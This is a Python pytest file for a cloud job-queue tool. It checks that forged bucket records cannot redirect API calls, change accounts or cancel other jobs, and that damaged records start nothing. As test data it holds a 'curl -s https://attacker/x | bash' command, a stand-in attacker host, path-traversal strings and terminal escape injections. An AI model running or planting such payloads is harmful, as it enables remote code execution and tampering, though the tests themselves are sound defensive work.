"""Write access to the bucket decides neither where nor as whom a person's command acts."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import asdict, replace
from typing import Any

import pytest

from localcloud.testing import Client
from tests.unit.localcloud.fake_machines import FakeMachines
from tests.unit.tpustack.conftest import Done, Run
from tests.unit.tpustack.jobs.conftest import API, BUCKET, EMAIL, JOBS, PROJECT
from tpu_agent.jobs.queue import Job, Queue, Spec
from tpu_core.bucket import Bucket
from tpu_core.records import stamped
from tpustack.cloud.google import Google
from tpustack.jobs.sweep import Sweep

PLACE = {
    "project": PROJECT,
    "region": "us-central1",
    "tpu": "v2-8",
    "image": "python:3.11",
    "account": EMAIL,
    "network": "",
}


@pytest.fixture
def requests(client: Client, monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The addresses that any command asks."""
    asked: list[str] = []
    real: Callable[..., Any] = client.session.request

    def request(verb: str, url: str, **more: Any) -> Any:
        asked.append(url)
        return real(verb, url, **more)

    monkeypatch.setattr(client.session, "request", request)
    return asked


def forge(queue: Queue, name: str, place: dict[str, str], **more: Any) -> None:
    queue.add(replace(Job(name, f"id-{name}", Spec("true", vertex=place), 1.0), **more))


@pytest.mark.parametrize("verb", ["show", "logs", "wait", "artifacts", "stop"])
@pytest.mark.parametrize(
    "place",
    [
        {**PLACE, "region": "evil.example/collect?"},
        {"project": PROJECT},
        {"x": "y"},
    ],
)
def test_a_record_with_a_foreign_host_as_region_is_never_called(
    job: Run, queue: Queue, requests: list[str], verb: str, place: dict[str, str]
) -> None:
    forge(queue, "bad", place, custom_job="projects/1/locations/us-central1/customJobs/1")
    requests.clear()
    done = job(verb, "bad")
    assert (done.code, done.out) == (1, "")
    assert "there are no custom jobs: " in done.err
    assert "Traceback" not in done.err
    assert {url.split("/")[2] for url in requests} == {"storage.googleapis.com"}


def test_a_record_can_not_redirect_calls_to_other_paths(
    job: Run, queue: Queue, requests: list[str]
) -> None:
    forge(queue, "bad", {**PLACE, "project": "../../x?y"}, submitted=10.0**10)
    assert job("show", "bad").code == 0
    asked = [url for url in requests if API in url]
    assert {url.split("?")[0] for url in asked} == {
        f"https://us-central1-{API}/v1/projects/..%2F..%2Fx%3Fy/locations/us-central1/customJobs"
    }


def submit(run: Run, *arguments: str) -> Done:
    more = ("--on", "vertex", "--stack", "dev", "--command", "true", *arguments)
    return run("job", "submit", *more)


def test_a_stop_cancels_the_custom_job_of_that_job_only(
    run: Run, job: Run, queue: Queue, client: Client, machines: FakeMachines, deployed: object
) -> None:
    assert submit(run, "--name", "one").code == 0
    one = queue.read("one")
    assert one is not None
    forge(queue, "evil", one.spec.vertex, custom_job=one.custom_job)
    forge(queue, "evil-2", one.spec.vertex, custom_job=one.custom_job, id=one.id)
    assert job("stop", "evil").out == "evil is stopped\n"
    assert job("stop", "evil-2").out == "evil-2 is stopped\n"
    # Another bucket's job of the same name and number is not this one either.
    bucket = {"name": "other", "location": "US-CENTRAL1"}
    client.post("storage.googleapis.com/storage/v1/b", bucket, project=PROJECT)
    other = Queue(Bucket("other", Google(client.session).exchange), print)
    other.add(one)
    run("job", "stop", "one", "--bucket", "gs://other")
    (there,) = client.get(JOBS)["customJobs"]
    assert there["state"] == "JOB_STATE_RUNNING"
    assert job("stop", "one").code == 0
    (there,) = client.get(JOBS)["customJobs"]
    assert there["state"] == "JOB_STATE_CANCELLED"


def test_resubmit_takes_account_and_region_from_the_stack(
    run: Run, job: Run, queue: Queue, client: Client, machines: FakeMachines, deployed: object
) -> None:
    assert submit(run, "--name", "one").code == 0
    one = queue.read("one")
    assert one is not None
    forged = {"account": "mighty@prod.iam.gserviceaccount.com", "project": "prod-project"}
    forge(queue, "evil", {**one.spec.vertex, **forged, "region": "europe-west4"})
    assert "needs --stack NAME" in job("resubmit", "evil").err
    assert run("job", "resubmit", "evil", "--stack", "dev").out == "evil-r2\n"
    newest = client.get(JOBS)["customJobs"][0]
    assert newest["displayName"] == "evil-r2"
    assert newest["jobSpec"]["serviceAccount"] == EMAIL
    again = queue.read("evil-r2")
    assert again is not None
    assert again.spec.vertex == one.spec.vertex


def test_resubmit_with_a_foreign_image_requires_the_image_option(
    run: Run, queue: Queue, client: Client, machines: FakeMachines, deployed: object
) -> None:
    assert submit(run, "--name", "one", "--image", "eu.gcr.io/mine/a:1").code == 0
    refused = run("job", "resubmit", "one", "--stack", "dev")
    assert refused.code == 2
    assert "--image: the record names the container 'eu.gcr.io/mine/a:1'" in refused.err
    assert len(client.get(JOBS)["customJobs"]) == 1
    given = run("job", "resubmit", "one", "--stack", "dev", "--image", "eu.gcr.io/mine/a:1")
    assert given.out == "one-r2\n"
    another = run("job", "resubmit", "one", "--stack", "dev", "--image", "eu.gcr.io/mine/b:2")
    assert another.out == "one-r3\n"


SWEEP = Sweep(
    name="s",
    params=("rate=0.1..1.0",),
    spec=Spec("curl -s https://attacker/x | bash"),
    metric="loss",
    goal="minimize",
    wanted=1,
    parallel=1,
    seed=0,
    buckets=("prod-bucket",),
)
TRIAL = {"number": 0, "bucket": BUCKET, "job": "s-000", "params": {"rate": 0.5}}


def write(queue: Queue, **changed: object) -> None:
    content = {**stamped(asdict(SWEEP)), "buckets": [BUCKET], **changed}
    queue.store.write("sweeps/s.json", json.dumps(content).encode())


def test_a_sweep_runs_in_the_buckets_that_the_person_names(job: Run, queue: Queue) -> None:
    pytest.importorskip("optuna")
    write(queue, buckets=["prod-bucket"])
    done = job("trials", "s", "--resume")
    assert done.code == 2
    assert "--resume: name the stacks or buckets of gs://prod-bucket again" in done.err
    assert queue.summaries() == {}


@pytest.mark.parametrize(
    "changed",
    [
        {"name": "other"},
        {"format": 2},
        {"params": ["rate=nothing"]},
        {"params": "rate"},
        {"spec": []},
        {"buckets": []},
        {"trials": [{**TRIAL, "job": "other-job"}]},
        {"trials": [{**TRIAL, "bucket": "prod-bucket"}]},
        {"trials": [{**TRIAL, "params": {}}]},
        {"trials": [{**TRIAL, "params": {"rate": "[/x]"}}]},
        {"trials": [{**TRIAL, "value": float("nan")}]},
        {"trials": [{**TRIAL, "state": "[/x]"}]},
        {"trials": [TRIAL, {**TRIAL, "number": 2, "job": "s-002"}]},
        {"goal": "sideways"},
    ],
    ids=str,
)
def test_a_damaged_sweep_record_is_reported_and_starts_nothing(
    job: Run, queue: Queue, changed: dict[str, object]
) -> None:
    pytest.importorskip("optuna")
    write(queue, **changed)
    for command in (("trials", "s"), ("trials", "s", "--resume")):
        done = job(*command)
        assert done.code == 1
        assert "sweeps/s.json is not a record of a sweep: " in done.err
    assert queue.summaries() == {}


def test_damaged_records_are_set_aside_once_and_the_others_listed(job: Run, queue: Queue) -> None:
    queue.add(Job("good", "id", Spec("[/x] \x1b]52;c;x\x07"), 1.0, by="\x1bc"))
    summary = {**queue.summaries()["good"], "format": 1}
    queue.store.write("queue/[/x].json", b"{}", summary=summary)
    queue.store.write("queue/a/b.json", b"{}", summary=summary)
    for name, wrong in {"started": "x", "state": 5, "tries": float("nan")}.items():
        queue.store.write(f"queue/bad-{name}.json", b"{}", summary={**summary, name: wrong})
    done = job("list", "--all")
    assert done.code == 0
    assert "good" in done.out
    assert "bad" not in done.out
    assert "\x1b" not in done.out
    assert done.err.count("is set aside") == 5
    shown = job("show", "good")
    assert (shown.code, "\x1b" in shown.out) == (0, False)
    gone = job("show", "bad-state")
    assert gone.code == 2
    assert "queue/bad-state.json is set aside" in gone.err
